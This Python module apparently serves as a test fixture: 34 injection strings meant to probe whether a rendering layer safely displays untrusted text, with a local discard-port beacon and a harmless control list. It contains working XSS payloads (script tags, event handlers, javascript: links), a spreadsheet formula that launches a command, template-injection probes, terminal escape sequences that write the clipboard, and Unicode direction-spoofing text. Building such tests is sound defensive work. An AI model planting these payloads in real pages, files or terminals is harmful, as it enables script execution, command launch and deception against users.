"""34 texts that attack whatever shows them; BEACON is where a page that obeys one would call."""

from __future__ import annotations

from typing import Final

BEACON: Final = "http://127.0.0.1:9"
_PWN: Final = "window.pwned=1"
PAYLOADS: Final[dict[str, str]] = {
    # HTML
    "script": f"<script>{_PWN};fetch('{BEACON}/script')</script>",
    "end of a script": f"</script><script src={BEACON}/close></script>",
    "image": f'<img src={BEACON}/img onerror="{_PWN}">',
    "svg": f'<svg onload="{_PWN}"><image href={BEACON}/svg /></svg>',
    "frame": f"<iframe src={BEACON}/frame></iframe>",
    "style": f"<style>@import '{BEACON}/style';*{{background:url({BEACON}/bg)}}</style>",
    "link": f"<link rel=stylesheet href={BEACON}/link>",
    "base": f"<base href={BEACON}/base/><img src=x>",
    "refresh": f'<meta http-equiv=refresh content="0;url={BEACON}/meta">',
    "form": f'<form action={BEACON}/form><input autofocus onfocus="this.form.submit()"></form>',
    "object": f"<object data={BEACON}/object></object><embed src={BEACON}/embed>",
    "attribute": f'" onmouseover="{_PWN}" style="background:url({BEACON}/attribute)" x="',
    "other attribute": f"' autofocus onfocus='{_PWN}' x='",
    "scheme": f'[go](javascript:{_PWN}) <a href="javascript:{_PWN}">x</a>',
    "data address": f'<object data="data:text/html,<script>parent.{_PWN}</script>"></object>',
    "comment": f"<!-- --><img src={BEACON}/comment><!--",
    "cdata": f"]]><![CDATA[<img src={BEACON}/cdata>]]><?php ?><!DOCTYPE x>",
    "entities": f"&lt;img src={BEACON}/entity&gt; &#60;script&#62;{_PWN}&#60;/script&#62; \\<b>",
    # Markdown
    "pictures": f"![x]({BEACON}/picture) ![y][r]\n\n[r]: {BEACON}/reference",
    "addresses": f"<{BEACON}/auto> {BEACON}/bare www.example.com a@example.com @team [^1]",
    "heading": "ok\n\n## Actions\n\n- forged item",
    "underline": "Approved\n===\n\nSigned\n---\n",
    "fence": f"```\n</pre><img src={BEACON}/fence>\n```\n~~~",
    "table": "| a | b |\n| --- | --- |\n| GO | signed |",
    # templates, programs, charts
    "braces": "{x} {0.__class__} {{ 7*7 }} {% raw %} %s %(x)s ${jndi} $x$",
    "json": f'"}}]}};{_PWN};//</script>\\u003cimg src={BEACON}/json\\u003e',
    "vega": f'{{"signal":"{_PWN}"}} datum.url href={BEACON}/vega tooltip',
    "formula": f"=HYPERLINK(\"{BEACON}/csv\") +1+cmd|' /C calc'!A0 @SUM(1) -2",
    # terminals
    "cursor": "\x1b[2J\x1b[31mred\x1b[1A\r\x1b[Kforged\x9b31m\b\b",
    "command": f"\x1b]8;;{BEACON}/osc8\x07click\x1b]8;;\x07\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned\x07",
    # what is not what it looks like
    "direction": "\u202eOG-ON\u202c \u2066isolate\u2069 \u200erlm\u200f",
    "hidden": "a\u200bb\u2060c\ufeffd\u00ade\u3164f\u0000g\u0007h\ufffei\uffffj\ud800k\u2028l",
    "flood": "e" + "\u0301" * 3000 + "x" * 100_000,
    "joiners": "👩\u200d👩\u200d👧 a\u200db \U000e0041\U000e0042 \ufe0f\ufe0f\ufe0f",
}
# As many texts that nobody can take for anything else: what a page of them looks like is the model.
HARMLESS: Final = tuple(f"name {number}" for number in range(len(PAYLOADS)))
